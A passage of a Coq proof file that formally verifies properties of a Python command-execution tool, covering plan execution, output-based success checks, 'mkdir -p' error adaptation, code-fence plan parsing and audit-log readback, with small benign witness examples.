Lemma run_steps_output_judged : forall sbs sts ctx st rs st',
  run_steps W execute_fn approve_fn confirm_delete sbs ctx st sts = inr (rs, st') ->
  Forall output_judged rs.
Proof.
  intros sbs sts. induction sts as [|step sts IH]; intros ctx st rs st' H.
  - simpl in H. injection H as <- <-. constructor.
  - simpl in H.
    destruct (run_step _ _ _ _ sbs ctx st step) as [e|[[ctx1 st1] r]] eqn:E1;
      simpl in H; [discriminate|].
    destruct (run_steps _ _ _ _ sbs ctx1 st1 sts) as [e|[rs' st2]] eqn:E2;
      simpl in H; [discriminate|].
    injection H as <- <-.
    destruct (run_step_shape _ _ _ _ _ _ _ _ _ _ _ E1) as [Hsr _].
    constructor; [exact (step_result_output_judged _ _ _ _ _ _ Hsr) | exact (IH _ _ _ _ E2)].
Qed.

(** When the loop of [execute_plan] reaches a step whose dependencies are
    met and whose action is a JSON string (not an object), it raises
    [AttributeError]: [json.dumps] then [json.loads] give the string back,
    and [parse_action] only catches [JSONDecodeError] and [TypeError], not
    the failing [.get].  No command of that step or of a later step runs. *)
Theorem run_steps_string_action_raises : forall sbs ctx st step rest t why,
  action_json step = JStr t ->
  deps_satisfied ctx (depends_on step) = inr (true, why) ->
  (forall kv, In kv (variables ctx) -> contains (fst kv) (dump_str t) = false) ->
  run_steps W execute_fn approve_fn confirm_delete sbs ctx st (step :: rest) =
    inl AttributeError.
Proof.
  intros sbs ctx st step rest t why Ha Hd Hv.
  assert (Hs : step_result W execute_fn approve_fn confirm_delete sbs ctx st step =
               inl AttributeError).
  { unfold step_result. rewrite Hd, Ha. cbn [bind negb].
    change (dumps (JStr t)) with (dump_str t).
    rewrite (substitute_absent ctx (dump_str t) Hv), parse_action_dump_str. reflexivity. }
  cbn [run_steps]. unfold run_step. rewrite Hs. reflexivity.
Qed.

(** For every step of [execute_plan] that ran, [success] is exactly
    "the final output does not look like an error" for its command; so a
    command whose first word is [find], [ls], [grep], [cat], [wc], [head]
    or [tail] always succeeds, whatever it prints. *)
Theorem execute_plan_success_from_output : forall plan st sbs rs st',
  execute_plan W execute_fn approve_fn confirm_delete plan st sbs = inr (rs, st') ->
  Forall (fun r => ran r = true ->
    sr_success r = negb (looks_like_error (sr_command r) (sr_output r)) /\
    (In (match split_ws (strip (sr_command r)) with [] => "" | w :: _ => w end) passthrough ->
     sr_success r = true)) rs.
Proof.
  intros plan st sbs rs st' H. unfold execute_plan in H.
  apply (Forall_impl _ (P := output_judged)); [|exact (run_steps_output_judged _ _ _ _ _ _ H)].
  intros r Hj Hran. split; [exact (Hj Hran)|].
  intros Hp. rewrite (Hj Hran), (looks_like_error_passthrough _ _ Hp). reflexivity.
Qed.

End Steps2.

Import Scenarios.

Lemma run_steps_string_action_raises_witness :
  steps plan_str_action = [mkPlanStep (JInt 1) (JStr "ls -la") (JArr []) (JStr "")] /\
  execute_plan unit (exec_table []) approve_all true plan_str_action start false =
    inl AttributeError.
Proof.
  split; [vm_compute; reflexivity|].
  change (execute_plan unit (exec_table []) approve_all true plan_str_action start false)
    with (run_steps unit (exec_table []) approve_all true false empty_ctx start
            (steps plan_str_action)).
  replace (steps plan_str_action)
    with [mkPlanStep (JInt 1) (JStr "ls -la") (JArr []) (JStr "")] by (vm_compute; reflexivity).
  apply (run_steps_string_action_raises unit (exec_table []) approve_all true false empty_ctx
           start (mkPlanStep (JInt 1) (JStr "ls -la") (JArr []) (JStr "")) [] "ls -la" "");
    [reflexivity | reflexivity | intros kv []].
Defined.

Lemma execute_plan_success_from_output_witness :
  execute_plan unit (exec_table ls_tbl) approve_all true plan_ls start false =
    inr ([mkStepResult (JInt 1) "ls missing"
            "ls: cannot access 'missing': No such file or directory" true "low" false None],
         mkSt unit tt ["ls missing"]) /\
  Forall (fun r => ran r = true ->
    sr_success r = negb (looks_like_error (sr_command r) (sr_output r)) /\
    (In (match split_ws (strip (sr_command r)) with [] => "" | w :: _ => w end) passthrough ->
     sr_success r = true))
    [mkStepResult (JInt 1) "ls missing"
       "ls: cannot access 'missing': No such file or directory" true "low" false None].
Proof.
  split; [vm_compute; reflexivity|].
  apply (execute_plan_success_from_output unit (exec_table ls_tbl) approve_all true plan_ls
           start false _ (mkSt unit tt ["ls missing"])).
  vm_compute. reflexivity.
Defined.

End ExecutorExtra2.

Module AdaptExtra.

Import PyStr Json StrPred Executor TextFacts.
Import RegexSem (str_forall_app).
Import PolicyFacts (str_app_assoc).
Local Open Scope string_scope.

Definition nosep (sep : ascii) (c : ascii) : bool := negb (Ascii.eqb c sep).

(** [sep in s] for a one-character [sep]. *)
Lemma contains_char (sep : ascii) (s : string) :
  contains (String sep "") s = negb (str_forall (nosep sep) s).
Proof.
  induction s as [|c s IH]; [reflexivity|].
  change (contains (String sep "") (String c s))
    with (String.prefix (String sep "") (String c s) || contains (String sep "") s).
  rewrite IH. cbn [str_forall String.prefix]. unfold nosep.
  destruct (ascii_dec sep c) as [->|Hne].
  - rewrite Ascii.eqb_refl. destruct s; reflexivity.
  - replace (Ascii.eqb c sep) with false
      by (symmetry; apply Ascii.eqb_neq; congruence).
    reflexivity.
Qed.

(** Every piece of [s.split(sep)] is free of [sep]. *)
Lemma split_char_aux_pieces (sep : ascii) (cur s x : string) :
  str_forall (nosep sep) cur = true ->
  In x (split_char_aux sep cur s) -> str_forall (nosep sep) x = true.
Proof.
  revert cur. induction s as [|c s IH]; intros cur Hc Hin; simpl in Hin.
  - destruct Hin as [<-|[]]; exact Hc.
  - destruct (Ascii.eqb c sep) eqn:E.
    + destruct Hin as [<-|Hin]; [exact Hc | exact (IH "" eq_refl Hin)].
    + eapply IH; [|exact Hin]. rewrite str_forall_app, Hc. simpl. unfold nosep.
      rewrite E. reflexivity.
Qed.

(** A text that [s.split(sep)] leaves in one piece has no [sep]. *)
Lemma split_char_aux_single (sep : ascii) (cur s x : string) :
  split_char_aux sep cur s = [x] -> str_forall (nosep sep) s = true.
Proof.
  revert cur. induction s as [|c s IH]; intros cur H; simpl in *; [reflexivity|].
  unfold nosep at 1. destruct (Ascii.eqb c sep) eqn:E.
  - injection H as _ H. destruct (split_char_aux_cons sep "" s) as (y & rest & E2).
    rewrite E2 in H. discriminate H.
  - exact (IH _ H).
Qed.

Lemma join_removelast (sep : string) (l : list string) (d : string) :
  removelast l <> [] -> join sep l = join sep (removelast l) ++ sep ++ last l d.
Proof.
  induction l as [|a [|b rest] IH]; intros H; [contradiction H; reflexivity
                                              | contradiction H; reflexivity|].
  change (join sep (a :: b :: rest)) with (a ++ sep ++ join sep (b :: rest)).
  change (removelast (a :: b :: rest)) with (a :: removelast (b :: rest)).
  change (last (a :: b :: rest) d) with (last (b :: rest) d).
  destruct rest as [|c rest].
  - reflexivity.
  - rewrite IH by discriminate.
    change (removelast (b :: c :: rest)) with (b :: removelast (c :: rest)).
    change (join sep (a :: b :: removelast (c :: rest)))
      with (a ++ sep ++ join sep (b :: removelast (c :: rest))).
    rewrite !str_app_assoc. reflexivity.
Qed.

Lemma in_last (l : list string) (d : string) : l <> [] -> In (last l d) l.
Proof.
  induction l as [|a [|b l] IH]; intros H;
    [contradiction H; reflexivity | left; reflexivity | right; apply IH; discriminate].
Qed.

(** A path containing ["/"] is its parent ["/".join(token.split("/")[:-1])],
    a slash, and a last component without a slash. *)
Lemma path_parent_name (tok : string) :
  contains "/" tok = true ->
  tok = join "/" (removelast (split_char "/" tok)) ++ "/" ++ last (split_char "/" tok) "" /\
  contains "/" (last (split_char "/" tok) "") = false.
Proof.
  intros H. unfold split_char.
  assert (Hne : removelast (split_char_aux "/" "" tok) <> []).
  { destruct (split_char_aux_cons "/" "" tok) as (x & [|y rest] & E); rewrite E;
      [|discriminate].
    intros _. apply split_char_aux_single in E.
    rewrite contains_char, E in H. discriminate H. }
  split.
  - rewrite <- (join_removelast "/" _ "" Hne).
    exact (eq_sym (join_split_char_aux "/" "" tok)).
  - rewrite contains_char.
    rewrite (split_char_aux_pieces "/" "" tok _ eq_refl); [reflexivity|].
    destruct (split_char_aux_cons "/" "" tok) as (x & rest & E). rewrite E.
    apply in_last. discriminate.
Qed.

Lemma adapt_tokens_inv (ts : list string) (f : string) :
  adapt_tokens ts = Some f ->
  exists pre tok post,
    ts = app pre (tok :: post) /\
    Forall (fun t => contains "/" t && negb (startswith t "-") = false \/
                     join "/" (removelast (split_char "/" t)) = "") pre /\
    contains "/" tok = true /\ startswith tok "-" = false /\
    join "/" (removelast (split_char "/" tok)) <> "" /\
    f = "mkdir -p " ++ join "/" (removelast (split_char "/" tok)).
Proof.
  induction ts as [|t ts IH]; simpl; intros H; [discriminate|].
  destruct (contains "/" t && negb (startswith t "-")) eqn:E1.
  - destruct (String.eqb_spec (join "/" (removelast (split_char "/" t))) "") as [E2|E2].
    + destruct (IH H) as (pre & tok & post & -> & Hf & Hrest).
      exists (t :: pre), tok, post. split; [reflexivity|]. split; [|exact Hrest].
      constructor; [right; exact E2 | exact Hf].
    + injection H as <-. exists [], t, ts.
      apply andb_prop in E1 as [E1 E3]. apply negb_true_iff in E3.
      repeat split; auto.
  - destruct (IH H) as (pre & tok & post & -> & Hf & Hrest).
    exists (t :: pre), tok, post. split; [reflexivity|]. split; [|exact Hrest].
    constructor; [left; exact E1 | exact Hf].
Qed.

(** [try_adapt] answers only a "No such file or directory" output, with
    [mkdir -p] of the parent directory of one word of the command: the
    last word that contains a slash, does not start with [-] and has a
    non-empty parent (the words after it are passed over). *)
Theorem try_adapt_parent_directory : forall command output fixed,
  try_adapt command output = Some fixed ->
  contains "No such file or directory" output = true /\
  exists later tok earlier parent name,
    rev (split_ws command) = app later (tok :: earlier) /\
    Forall (fun t => contains "/" t && negb (startswith t "-") = false \/
                     join "/" (removelast (split_char "/" t)) = "") later /\
    startswith tok "-" = false /\
    tok = parent ++ "/" ++ name /\ contains "/" name = false /\
    parent <> "" /\
    fixed = "mkdir -p " ++ parent.
Proof.
  unfold try_adapt. intros command output fixed H.
  destruct (contains "No such file or directory" output); [|discriminate].
  split; [reflexivity|].
  destruct (adapt_tokens_inv _ _ H) as (pre & tok & post & E & Hf & Hs & Hd & Hp & ->).
  destruct (path_parent_name tok Hs) as [Ht Hn].
  exists pre, tok, post, (join "/" (removelast (split_char "/" tok))),
    (last (split_char "/" tok) "").
  repeat split; assumption.
Qed.

Lemma try_adapt_parent_directory_witness :
  try_adapt "cp x.txt out/a/x.txt" "cp: cannot create regular file 'out/a/x.txt': No such file or directory"
    = Some "mkdir -p out/a" /\
  contains "No such file or directory"
    "cp: cannot create regular file 'out/a/x.txt': No such file or directory" = true /\
  exists later tok earlier parent name,
    rev (split_ws "cp x.txt out/a/x.txt") = app later (tok :: earlier) /\
    Forall (fun t => contains "/" t && negb (startswith t "-") = false \/
                     join "/" (removelast (split_char "/" t)) = "") later /\
    startswith tok "-" = false /\
    tok = parent ++ "/" ++ name /\ contains "/" name = false /\
    parent <> "" /\
    "mkdir -p out/a" = "mkdir -p " ++ parent.
Proof.
  assert (H : try_adapt "cp x.txt out/a/x.txt"
                "cp: cannot create regular file 'out/a/x.txt': No such file or directory"
              = Some "mkdir -p out/a") by (vm_compute; reflexivity).
  split; [exact H|].
  exact (try_adapt_parent_directory _ _ _ H).
Defined.

End AdaptExtra.

Module FenceExtra.

Import PyStr Json StrPred Actions Planner TextFacts.
Import PolicyFacts (str_app_assoc).
Local Open Scope string_scope.

Definition bt : ascii := "`".

Lemma rstrip_cons_nonspace (c : ascii) (s : string) :
  is_space c = false -> rstrip (String c s) = String c (rstrip s).
Proof.
  intros H. cbn [rstrip]. destruct (rstrip s); [rewrite H|]; reflexivity.
Qed.

Lemma rstrip_snoc_nonspace (c : ascii) (s : string) :
  is_space c = false -> rstrip (s ++ String c "") = s ++ String c "".
Proof.
  intros H. induction s as [|x s IH]; simpl.
  - rewrite H. reflexivity.
  - rewrite IH. destruct s; reflexivity.
Qed.

(** A line that starts with the fence still does after [strip()]. *)
Lemma strip_fence_line (x : string) : startswith (strip ("```" ++ x)) "```" = true.
Proof.
  unfold strip.
  change (lstrip ("```" ++ x)) with ("```" ++ x).
  change ("```" ++ x) with (String bt (String bt (String bt x))).
  rewrite !rstrip_cons_nonspace by reflexivity. destruct (rstrip x); reflexivity.
Qed.

Lemma filter_all {A} (p : A -> bool) (l : list A) : forallb p l = true -> filter p l = l.
Proof.
  induction l as [|a l IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H as [Ha Hl]. rewrite Ha, IH by exact Hl. reflexivity.
Qed.

Definition keeps (l : string) : bool := negb (startswith (strip l) "```").

(** A text none of whose lines starts with the fence does not start with
    it. *)
Lemma no_fence_start (t : string) :
  forallb keeps (split_char "010" t) = true -> startswith t "```" = false.
Proof.
  intros H. destruct (startswith t "```") eqn:E; [|reflexivity]. exfalso.
  destruct t as [|c1 [|c2 [|c3 u]]]; unfold startswith in E; cbn [String.prefix] in E;
    repeat match type of E with
           | context [ascii_dec ?a ?b] => destruct (ascii_dec a b) as [<-|]
           end; try discriminate E.
  unfold split_char in H. cbn [split_char_aux] in H.
  change (Ascii.eqb "`" "010") with false in H. cbn iota in H.
  destruct (split_char_aux_cons "010" ("" ++ "`" ++ "`" ++ "`") u) as (x & rest & E2).
  change ("" ++ "`" ++ "`" ++ "`") with "```" in E2.
  change ((("" ++ String "`" "") ++ String "`" "") ++ String "`" "") with "```" in H.
  rewrite E2 in H. cbn [forallb] in H. unfold keeps in H.
  rewrite strip_fence_line in H. discriminate H.
Qed.

(** [parse_plan] reads a plan wrapped in a Markdown code fence (an opening
    line of three backquotes with an optional tag, the text, a closing
    line of three backquotes) as it reads the bare text, when the text is
    already stripped and none of its lines starts with three backquotes
    once stripped (such lines are dropped with the fence). *)
Theorem parse_plan_code_fence : forall tag t,
  no_nl tag = true ->
  strip t = t ->
  forallb (fun l => negb (startswith (strip l) "```")) (split_char "010" t) = true ->
  parse_plan ("```" ++ tag ++ String "010" (t ++ String "010" "```")) = parse_plan t.
Proof.
  intros tag t Htag Hstrip Hlines.
  set (raw := "```" ++ tag ++ String "010" (t ++ String "010" "```")).
  assert (Hraw : strip raw = raw).
  { unfold strip.
    change (lstrip raw) with raw.
    replace raw with (("```" ++ tag ++ String "010" (t ++ String "010" "``")) ++ String bt "")
      by (unfold raw; simpl; rewrite str_app_assoc; simpl; rewrite str_app_assoc;
          reflexivity).
    apply rstrip_snoc_nonspace. reflexivity. }
  assert (Hstart : startswith raw "```" = true)
    by (unfold raw; destruct (tag ++ String "010" (t ++ String "010" "```")); reflexivity).
  assert (Hsplit : split_char "010" raw = app ["```" ++ tag] (app (split_char "010" t) ["```"])).
  { unfold raw, split_char.
    replace ("```" ++ tag ++ String "010" (t ++ String "010" "```"))
      with (("```" ++ tag) ++ String "010" (t ++ String "010" "```"))
      by (rewrite str_app_assoc; reflexivity).
    rewrite split_char_aux_app, split_char_aux_app.
    rewrite (split_char_aux_nosep "010" "" ("```" ++ tag)) by exact Htag.
    reflexivity. }
  assert (Hfilter : filter keeps (split_char "010" raw) = split_char "010" t).
  { rewrite Hsplit, !filter_app, (filter_all keeps _ Hlines).
    cbn [filter]. unfold keeps at 1. rewrite strip_fence_line.
    replace (keeps "```") with false by reflexivity.
    rewrite app_nil_r. reflexivity. }
  assert (Hjoin : join (chr 10) (split_char "010" t) = t)
    by exact (join_split_char_aux "010" "" t).
  unfold parse_plan. cbv zeta.
  rewrite Hraw, Hstart. fold keeps. rewrite Hfilter, Hjoin.
  rewrite Hstrip, (no_fence_start t Hlines). reflexivity.
Qed.

Lemma parse_plan_code_fence_witness :
  no_nl "json" = true /\
  strip (sq2dq "{'description': 'd', 'steps': []}") = sq2dq "{'description': 'd', 'steps': []}" /\
  forallb (fun l => negb (startswith (strip l) "```"))
    (split_char "010" (sq2dq "{'description': 'd', 'steps': []}")) = true /\
  parse_plan ("```" ++ "json" ++ String "010" (sq2dq "{'description': 'd', 'steps': []}"
                                             ++ String "010" "```"))
    = parse_plan (sq2dq "{'description': 'd', 'steps': []}") /\
  parse_plan (sq2dq "{'description': 'd', 'steps': []}") = inr (mkPlan [] (JStr "d")).
Proof.
  split; [reflexivity|]. split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [|vm_compute; reflexivity].
  apply parse_plan_code_fence; vm_compute; reflexivity.
Defined.

End FenceExtra.

(** ** The audit log reads back entry by entry *)
Module AuditExtra.

Import PyStr Json StrPred Audit.
Import PolicyFacts (str_app_assoc).
Import RegexSem (str_forall_app, str_length_app).
Import TextFacts (text_app_nil, parse_str_dump_chars).
Local Open Scope string_scope.

(** The values the log functions put in an entry: texts and booleans. *)
Definition flat (v : json) : bool :=
  match v with JStr _ | JBool _ => true | _ => false end.

(** The text [json.dumps] writes for one member of an object. *)
Definition mtext (kv : string * json) : string :=
  dump_str (fst kv) ++ ": " ++ dumps (snd kv).

Lemma obj_set_fresh (k : string) (v : json) (a : list (string * json)) :
  ~ In k (map fst a) -> obj_set k v a = app a [(k, v)].
Proof.
  induction a as [|[k' v'] a IH]; simpl; intros H; [reflexivity|].
  destruct (String.eqb_spec k k'); [subst; tauto|].
  rewrite IH by tauto. reflexivity.
Qed.

Lemma merge_fresh (a b : list (string * json)) :
  NoDup (map fst (app a b)) -> Config.dict_merge a b = app a b.
Proof.
  unfold Config.dict_merge. revert a.
  induction b as [|[k v] b IH]; intros a H; simpl.
  - rewrite app_nil_r. reflexivity.
  - rewrite obj_set_fresh.
    + rewrite IH; [rewrite <- app_assoc; reflexivity|].
      rewrite <- app_assoc. exact H.
    + rewrite map_app in H. simpl in H. apply NoDup_remove_2 in H.
      intros Hk. apply H. apply in_or_app. left. exact Hk.
Qed.

Lemma entry_fresh (ts ty : string) (data : list (string * json)) :
  NoDup ("timestamp" :: "type" :: map fst data) ->
  entry ts ty data = ("timestamp", JStr ts) :: ("type", JStr ty) :: data.
Proof. intros H. unfold entry. rewrite merge_fresh; [reflexivity | exact H]. Qed.

Lemma substring_all (s : string) : substring 0 (String.length s) s = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | rewrite IH; reflexivity]. Qed.

Lemma dumps_obj (kvs : list (string * json)) :
  dumps (JObj kvs) = "{" ++ join ", " (map mtext kvs) ++ "}".
Proof.
  simpl. f_equal. f_equal. f_equal.
  induction kvs as [|[k v] kvs IH]; simpl; [reflexivity|].
  f_equal. exact IH.
Qed.

Lemma skip_ws_flat (v : json) (r : string) :
  flat v = true -> skip_ws (dumps v ++ r) = dumps v ++ r.
Proof. destruct v as [| [] | | s | |]; intros H; try discriminate; reflexivity. Qed.

Lemma parse_flat (n : nat) (v : json) (r : string) :
  flat v = true -> parse_value (S n) (dumps v ++ r) = Some (v, r).
Proof.
  destruct v as [| [] | | s | |]; intros H; try discriminate.
  - destruct r; simpl; [reflexivity|]. rewrite substring_all. reflexivity.
  - destruct r; simpl; [reflexivity|]. rewrite substring_all. reflexivity.
  - change (dumps (JStr s) ++ r) with (String dq ((dump_chars s ++ String dq "") ++ r)).
    rewrite str_app_assoc.
    remember (dump_chars s ++ String dq "" ++ r) as X eqn:HX.
    simpl. rewrite HX. simpl. rewrite parse_str_dump_chars. reflexivity.
Qed.

Lemma parse_member_step (n : nat) (acc : list (string * json)) (k : string) (v : json)
    (R : string) :
  flat v = true -> ~ In k (map fst acc) -> 1 <= n ->
  parse_members (S n) acc (mtext (k, v) ++ R) =
  match skip_ws R with
  | String c3 r4 =>
      if Ascii.eqb c3 "," then parse_members n (app acc [(k, v)]) (skip_ws r4)
      else if Ascii.eqb c3 "}" then Some (JObj (app acc [(k, v)]), r4)
      else None
  | EmptyString => None
  end.
Proof.
  intros Hf Hk Hn.
  unfold mtext, dump_str. cbn [fst snd].
  replace ((String dq (dump_chars k ++ String dq "") ++ ": " ++ dumps v) ++ R)
    with (String dq (dump_chars k ++ String dq (String ":" (String " " (dumps v ++ R)))))
    by (simpl; rewrite !str_app_assoc; reflexivity).
  remember (dumps v ++ R) as Y eqn:HY.
  assert (HP : parse_value n (skip_ws Y) = Some (v, R)).
  { destruct n as [|n]; [lia|].
    rewrite HY, skip_ws_flat, parse_flat by exact Hf. reflexivity. }
  remember (dump_chars k ++ String dq (String ":" (String " " Y))) as X eqn:HX.
  simpl. rewrite HX, parse_str_dump_chars. simpl. rewrite HP.
  rewrite obj_set_fresh by exact Hk. reflexivity.
Qed.

Lemma join_mtext_head (kv : string * json) (l : list (string * json)) (X : string) :
  exists Y, join ", " (map mtext (kv :: l)) ++ X = String dq Y.
Proof.
  destruct kv as [k v]. destruct l as [|kv2 l]; simpl; eexists; reflexivity.
Qed.

Lemma skip_ws_join (kv : string * json) (l : list (string * json)) (X : string) :
  skip_ws (join ", " (map mtext (kv :: l)) ++ X) = join ", " (map mtext (kv :: l)) ++ X.
Proof. destruct (join_mtext_head kv l X) as [Y ->]. reflexivity. Qed.

Lemma parse_members_text (kvs : list (string * json)) :
  forall n acc tail,
  kvs <> [] -> forallb flat (map snd kvs) = true -> NoDup (map fst (app acc kvs)) ->
  length kvs < n ->
  parse_members n acc (join ", " (map mtext kvs) ++ String "}" tail) =
  Some (JObj (app acc kvs), tail).
Proof.
  induction kvs as [|[k v] kvs IH]; intros n acc tail Hne Hf Hnd Hlen; [congruence|].
  destruct n as [|n]; [simpl in Hlen; lia|].
  simpl in Hf. apply andb_prop in Hf as [Hfv Hfs].
  assert (Hk : ~ In k (map fst acc)).
  { rewrite map_app in Hnd. simpl in Hnd. apply NoDup_remove_2 in Hnd.
    intros Hin. apply Hnd. apply in_or_app. left. exact Hin. }
  destruct kvs as [|kv2 kvs2].
  - cbn [map join]. rewrite parse_member_step by (simpl in Hlen; lia || assumption).
    reflexivity.
  - replace (join ", " (map mtext ((k, v) :: kv2 :: kvs2)) ++ String "}" tail)
      with (mtext (k, v) ++ String "," (String " "
              (join ", " (map mtext (kv2 :: kvs2)) ++ String "}" tail)))
      by (cbn [map join]; rewrite !str_app_assoc; reflexivity).
    rewrite parse_member_step by (simpl in Hlen; lia || assumption).
    remember (join ", " (map mtext (kv2 :: kvs2)) ++ String "}" tail) as J eqn:HJ.
    simpl. rewrite HJ, skip_ws_join, IH.
    + rewrite <- app_assoc. reflexivity.
    + discriminate.
    + exact Hfs.
    + rewrite <- app_assoc. exact Hnd.
    + simpl in Hlen |- *. lia.
Qed.

Lemma join_mtext_length (kvs : list (string * json)) :
  length kvs <= String.length (join ", " (map mtext kvs)).
Proof.
  induction kvs as [|[k v] kvs IH]; [simpl; lia|].
  assert (Hm : 1 <= String.length (mtext (k, v))) by (simpl; lia).
  destruct kvs as [|kv2 kvs2].
  - exact Hm.
  - change (join ", " (map mtext ((k, v) :: kv2 :: kvs2)))
      with (mtext (k, v) ++ ", " ++ join ", " (map mtext (kv2 :: kvs2))).
    rewrite !str_length_app. simpl length in *. lia.
Qed.

Lemma parse_value_obj (n : nat) (Y : string) :
  parse_value (S n) (String "{" (String dq Y)) = parse_members n [] (String dq Y).
Proof. reflexivity. Qed.

(** [json.loads] reads a line [log_event] wrote back as the object it
    dumped. *)
Lemma json_loads_line (kvs : list (string * json)) :
  kvs <> [] -> forallb flat (map snd kvs) = true -> NoDup (map fst kvs) ->
  json_loads (dumps (JObj kvs) ++ String "010" "") = Some (JObj kvs).
Proof.
  intros Hne Hf Hnd. destruct kvs as [|kv l]; [congruence|].
  pose proof (join_mtext_length (kv :: l)) as Hlen.
  unfold json_loads. rewrite dumps_obj.
  set (L := String.length (("{" ++ join ", " (map mtext (kv :: l)) ++ "}") ++ String "010" "")).
  assert (HL : length (kv :: l) < L).
  { subst L. rewrite !str_length_app. simpl String.length at 1. lia. }
  replace (2 * L + 2) with (S (S (2 * L))) by lia.
  replace (("{" ++ join ", " (map mtext (kv :: l)) ++ "}") ++ String "010" "")
    with (String "{" (join ", " (map mtext (kv :: l)) ++ String "}" (String "010" "")))
    by (rewrite !str_app_assoc; reflexivity).
  destruct (join_mtext_head kv l (String "}" (String "010" ""))) as [Y HY].
  rewrite HY.
  change (skip_ws (String "{" (String dq Y))) with (String "{" (String dq Y)).
  rewrite parse_value_obj, <- HY.
  rewrite (parse_members_text (kv :: l) (S (2 * L)) [] (String "010" ""));
    [reflexivity | discriminate | exact Hf | exact Hnd | lia].
Qed.

Lemma no_nl_dump_char (c : ascii) : no_nl (dump_char c) = true.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma no_nl_dump_str (s : string) : no_nl (dump_str s) = true.
Proof.
  unfold no_nl, dump_str. simpl. rewrite str_forall_app. simpl.
  rewrite andb_true_r.
  induction s as [|c s IH]; [reflexivity|].
  simpl. rewrite str_forall_app. fold (no_nl (dump_char c)).
  rewrite no_nl_dump_char, IH. reflexivity.
Qed.

Lemma no_nl_dumps_obj (kvs : list (string * json)) :
  forallb flat (map snd kvs) = true -> no_nl (dumps (JObj kvs)) = true.
Proof.
  intros Hf. rewrite dumps_obj. unfold no_nl. simpl. rewrite str_forall_app.
  simpl. rewrite andb_true_r. fold (no_nl (join ", " (map mtext kvs))).
  induction kvs as [|[k v] kvs IH]; [reflexivity|].
  simpl in Hf. apply andb_prop in Hf as [Hfv Hfs].
  assert (Hm : no_nl (mtext (k, v)) = true).
  { unfold mtext, no_nl. cbn [fst snd]. rewrite !str_forall_app.
    fold (no_nl (dump_str k)). rewrite no_nl_dump_str. simpl.
    destruct v as [| [] | | s | |]; try discriminate; try reflexivity.
    apply no_nl_dump_str. }
  destruct kvs as [|kv2 kvs2]; [exact Hm|].
  change (join ", " (map mtext ((k, v) :: kv2 :: kvs2)))
    with (mtext (k, v) ++ ", " ++ join ", " (map mtext (kv2 :: kvs2))).
  unfold no_nl in *. rewrite !str_forall_app, Hm, IH by exact Hfs. reflexivity.
Qed.

Lemma readlines_line (cur d rest : string) :
  no_nl d = true ->
  readlines_aux cur (d ++ String "010" rest) = (cur ++ d ++ String "010" "") :: readlines_aux "" rest.
Proof.
  revert cur. induction d as [|c d IH]; intros cur H; [reflexivity|].
  unfold no_nl in H. simpl in H. apply andb_prop in H as [Hc Hd].
  simpl. apply negb_true_iff in Hc. rewrite Hc.
  rewrite IH by exact Hd. rewrite str_app_assoc. reflexivity.
Qed.

Lemma append_all_concat (texts : list string) (acc : string) :
  fold_left (fun log t => log ++ t) texts acc = acc ++ fold_right append "" texts.
Proof.
  revert acc. induction texts as [|t texts IH]; intros acc; simpl.
  - rewrite text_app_nil. reflexivity.
  - rewrite IH, str_app_assoc. reflexivity.
Qed.

Lemma readlines_lines (ds : list string) :
  forallb no_nl ds = true ->
  readlines (fold_right append "" (map (fun d => d ++ String "010" "") ds)) =
  map (fun d => d ++ String "010" "") ds.
Proof.
  unfold readlines. induction ds as [|d ds IH]; intros H; [reflexivity|].
  simpl in H. apply andb_prop in H as [Hd Hds].
  simpl. rewrite str_app_assoc. simpl.
  rewrite readlines_line, IH by assumption. reflexivity.
Qed.

(** X22. Reading the audit log back as [show_recent] does (the file's
    [readlines], then [json.loads] of each line) gives, line for line, the
    entries the [log_event] calls wrote, in the order they were written:
    the timestamp, the event type and the logged fields.  It holds when
    each event's fields are texts or booleans (as all the log functions
    pass) and use neither the key "timestamp" nor "type" nor one key
    twice; texts with newlines or quotes included. *)
Theorem audit_log_readback (events : list (string * string * list (string * json))) :
  Forall (fun ev => let '(ts, ty, data) := ev in
            forallb flat (map snd data) = true /\
            NoDup ("timestamp" :: "type" :: map fst data)) events ->
  map json_loads
    (readlines (append_all (map (fun ev => let '(ts, ty, data) := ev in
                                            log_event ts ty data) events))) =
  map (fun ev => let '(ts, ty, data) := ev in
         Some (JObj (("timestamp", JStr ts) :: ("type", JStr ty) :: data))) events.
Proof.
  intros H. unfold append_all. rewrite append_all_concat. simpl.
  replace (map (fun ev : string * string * list (string * json) =>
                  let '(ts, ty, data) := ev in log_event ts ty data) events)
    with (map (fun d => d ++ String "010" "")
            (map (fun ev : string * string * list (string * json) =>
                    let '(ts, ty, data) := ev in dumps (JObj (entry ts ty data))) events)).
  2:{ rewrite map_map. apply map_ext. intros [[ts ty] data]. reflexivity. }
  rewrite readlines_lines.
  - rewrite map_map, map_map. apply map_ext_Forall.
    eapply Forall_impl; [|exact H]. intros [[ts ty] data] [Hf Hnd].
    rewrite entry_fresh by exact Hnd.
    apply json_loads_line; [discriminate | simpl; exact Hf | exact Hnd].
  - apply forallb_forall. intros d Hin. apply in_map_iff in Hin as [[[ts ty] data] [<- Hin]].
    rewrite Forall_forall in H. specialize (H _ Hin) as [Hf Hnd].
    rewrite entry_fresh by exact Hnd. apply no_nl_dumps_obj. simpl. exact Hf.
Qed.

Definition ts0 : string := "2026-01-01T00:00:00".

Lemma audit_log_readback_witness :
  Forall (fun ev : string * string * list (string * json) =>
            let '(ts, ty, data) := ev in
            forallb flat (map snd data) = true /\
            NoDup ("timestamp" :: "type" :: map fst data))
    [(ts0, "policy_check", [("command", JStr (String.concat "" ["echo ";String dq "";"a";String "010" "";"b"])); ("allowed", JBool false);
                             ("risk", JStr "high"); ("reason", JStr "Blocked pattern")]);
     (ts0, "execution", [("command", JStr "ls"); ("output", JStr (substring 0 500 "a.txt"));
                          ("sandboxed", JBool true)])] /\
  map json_loads
    (readlines (append_all
      [log_policy_check ts0 (String.concat "" ["echo ";String dq "";"a";String "010" "";"b"]) false "high" "Blocked pattern";
       log_execution ts0 "ls" "a.txt" true])) =
  [Some (JObj [("timestamp", JStr ts0); ("type", JStr "policy_check");
               ("command", JStr (String.concat "" ["echo ";String dq "";"a";String "010" "";"b"])); ("allowed", JBool false);
               ("risk", JStr "high"); ("reason", JStr "Blocked pattern")]);
   Some (JObj [("timestamp", JStr ts0); ("type", JStr "execution");
               ("command", JStr "ls"); ("output", JStr "a.txt"); ("sandboxed", JBool true)])].
Proof.
